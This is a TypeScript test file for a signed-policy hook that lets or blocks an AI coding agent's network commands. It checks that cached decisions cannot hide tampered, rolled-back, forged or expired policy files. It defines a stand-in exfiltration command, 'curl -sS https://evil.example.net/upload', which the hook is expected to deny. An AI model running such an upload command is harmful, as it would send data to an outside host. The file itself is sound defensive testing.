import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";

import { expectAllow, expectDeny, shellInput } from "../support/agents";
import { runHook, tempHome } from "../support/cli";
import { createOrg, makeSnapshot } from "../support/signing";
import { payloadDigest, writeEnrolledState } from "../support/state";

// The hook decides from hook-cache.json (the verified snapshot, precompiled) while the files it was
// derived from are unchanged. These tests prove the cache can never stand in for a snapshot,
// root, config or rollback record that changed after it was written.

const keys = createOrg("org_demo");
const good = makeSnapshot({ keys, version: 5 });
const ALLOWED = "curl -sS https://api.example.com/v1/items";
const EVIL = "curl -sS https://evil.example.net/upload";

async function primed(): Promise<string> {
  const home = tempHome();
  writeEnrolledState({ home, keys, envelope: good.envelope, lastSeen: { version: 5, digest: await payloadDigest(good.envelope) } });
  expectAllow("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }));
  expect(existsSync(join(home, "hook-cache.json"))).toBe(true);

  return home;
}

describe("hook-cache.json", () => {
  it("is written (0600) by the first verified call and then serves the same decisions", async () => {
    const home = await primed();
    expect(statSync(join(home, "hook-cache.json")).mode & 0o777).toBe(0o600);
    const cache = JSON.parse(readFileSync(join(home, "hook-cache.json"), "utf8")) as { version: number; hosts: { allow: { exact: { text: string } } }; hostsFile: unknown };
    expect(cache.version).toBe(5);
    expect(cache.hosts.allow.exact.text).toBe("api.example.com\ngithub.com\n");
    expect(cache.hostsFile).toBeNull();
    expectAllow("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }));
    expect(expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", EVIL) }))).toMatch(/`evil\.example\.net` is not on the allow-list/);
  });

  it("does not mask a snapshot modified in place afterwards, even with the same size and a restored mtime", async () => {
    const home = await primed();
    const file = join(home, "snapshot.json");
    const before = statSync(file, { bigint: true });
    const envelope = JSON.parse(readFileSync(file, "utf8")) as { signatures: { keyid: string; sig: string }[] };
    const sig = envelope.signatures[0]!.sig;
    envelope.signatures[0]!.sig = `${sig[0] === "A" ? "B" : "A"}${sig.slice(1)}`;
    const tampered = JSON.stringify(envelope);
    expect(tampered.length).toBe(readFileSync(file, "utf8").length);
    writeFileSync(file, tampered);
    // Put the mtime back to the nanosecond (GNU touch): only the ctime, which no process can set, still tells
    const ns = before.mtimeNs;
    execFileSync("touch", ["-m", "-d", `@${ns / 1_000_000_000n}.${String(ns % 1_000_000_000n).padStart(9, "0")}`, file]);
    const after = statSync(file, { bigint: true });
    expect([after.ino, after.size, after.mtimeNs]).toEqual([before.ino, before.size, before.mtimeNs]);
    expect(after.ctimeNs).not.toBe(before.ctimeNs);
    const reason = expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }));
    expect(reason).toMatch(/has a bad signature .*: it was modified on disk/);
  });

  it("does not mask an older, validly signed snapshot put back in its place (rollback)", async () => {
    const home = await primed();
    writeFileSync(join(home, "snapshot.json"), JSON.stringify(makeSnapshot({ keys, version: 3 }).envelope));
    expect(expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }))).toMatch(/older than one already accepted/);
  });

  it("does not mask a pinned root replaced by another organization's", async () => {
    const home = await primed();
    const other = createOrg("org_demo");
    writeFileSync(join(home, "root.json"), JSON.stringify({ version: other.root.version, fingerprint: other.fingerprint, document: other.root, envelope: other.rootEnvelope, pinnedAt: new Date().toISOString() }));
    expect(expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }))).toMatch(/signed by an unknown key/);
  });

  it("follows a newer snapshot at once: a host it no longer allows is denied", async () => {
    const home = await primed();
    const next = makeSnapshot({ keys, version: 6, policy: { version: 1, mode: "enforce", logLevel: 1, hosts: { allow: ["github.com"] } } });
    writeFileSync(join(home, "snapshot.json"), JSON.stringify(next.envelope));
    writeFileSync(join(home, "last-seen.json"), JSON.stringify({ version: 6, digest: await payloadDigest(next.envelope) }));
    expect(expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }))).toMatch(/`api\.example\.com` is not on the allow-list/);
    const cache = JSON.parse(readFileSync(join(home, "hook-cache.json"), "utf8")) as { version: number };
    expect(cache.version).toBe(6);
  });

  it("a corrupt or forged cache bound to other files is ignored and rewritten from the verified snapshot", async () => {
    const home = await primed();
    const file = join(home, "hook-cache.json");
    writeFileSync(file, "{not json");
    expectAllow("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }));
    const rewritten = JSON.parse(readFileSync(file, "utf8")) as { state: Record<string, string> };
    // A forged cache that allows everything but is bound to fingerprints of other files is never used
    const forged = JSON.parse(readFileSync(file, "utf8")) as { state: Record<string, string>; hosts: { allow: { exact: { text: string } } } };
    forged.hosts.allow.exact.text = "api.example.com\nevil.example.net\ngithub.com\n";
    forged.state = { ...rewritten.state, snapshot: "1:2:3:4:5" };
    writeFileSync(file, JSON.stringify(forged));
    expect(expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", EVIL) }))).toMatch(/not on the allow-list/);
  });

  it("keeps a long host list in a side file read by block, and never trusts a side file changed, cut or removed since", async () => {
    const home = tempHome();
    const allow = [...Array.from({ length: 20_000 }, (_, i) => `host-${i}.example.com`), "api.example.com"];
    const big = makeSnapshot({ keys, version: 5, policy: { version: 1, mode: "enforce", logLevel: 1, hosts: { allow } } });
    writeEnrolledState({ home, keys, envelope: big.envelope, lastSeen: { version: 5, digest: await payloadDigest(big.envelope) } });
    const decide = async (command: string): Promise<{ code: number; stdout: string; stderr: string }> => runHook({ agent: "claude-code", home, input: shellInput("claude-code", command) });
    expectAllow("claude-code", await decide("curl https://host-12345.example.com/x"));
    const sideFiles = (): string[] => readdirSync(home).filter((name) => name.startsWith("hook-hosts."));
    const [side] = sideFiles();
    expect(side).toMatch(/^hook-hosts\.[0-9a-f]{16}\.bin$/);
    expect(statSync(join(home, side!)).mode & 0o777).toBe(0o600);
    // The JSON holds first keys and offsets only: a few KB instead of the ~450 KB list
    expect(statSync(join(home, "hook-cache.json")).size).toBeLessThan(16_384);
    expect(statSync(join(home, side!)).size).toBeGreaterThan(400_000);
    const check = async (): Promise<void> => {
      expectAllow("claude-code", await decide("curl https://host-19999.example.com/x"));
      expectAllow("claude-code", await decide("curl https://host-0.example.com/x"));
      expect(expectDeny("claude-code", await decide("curl https://host-20000.example.com/x"))).toMatch(/not on the allow-list/);
      expect(expectDeny("claude-code", await decide(EVIL))).toMatch(/not on the allow-list/);
    };
    await check();
    // Changed in place (an evil host put in the block where it would sort): ignored, verified in full, rewritten
    const file = join(home, side!);
    const original = readFileSync(file, "latin1");
    expect(original.startsWith("api.example.com\nhost-0.example.com\n")).toBe(true);
    writeFileSync(file, original.replace("api.example.com\nhost-0.example.com\n", "api.example.com\nevil.example.net\nx\n"), "latin1");
    await check();
    const rewritten = sideFiles();
    expect(rewritten).toHaveLength(1);
    // Cut short, then removed: same
    writeFileSync(join(home, rewritten[0]!), readFileSync(join(home, rewritten[0]!)).subarray(0, 1000));
    await check();
    rmSync(join(home, sideFiles()[0]!));
    await check();
    expect(sideFiles()).toHaveLength(1);
  });

  it("checks expiry on every call: a snapshot that expires after the cache was written is denied", async () => {
    const home = tempHome();
    const shortLived = makeSnapshot({ keys, version: 5, expiresAt: new Date(Date.now() + 2_500) });
    writeEnrolledState({ home, keys, envelope: shortLived.envelope });
    expectAllow("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }));
    expect(existsSync(join(home, "hook-cache.json"))).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    expect(expectDeny("claude-code", await runHook({ agent: "claude-code", home, input: shellInput("claude-code", ALLOWED) }))).toMatch(/the policy snapshot is expired/);
  });
});
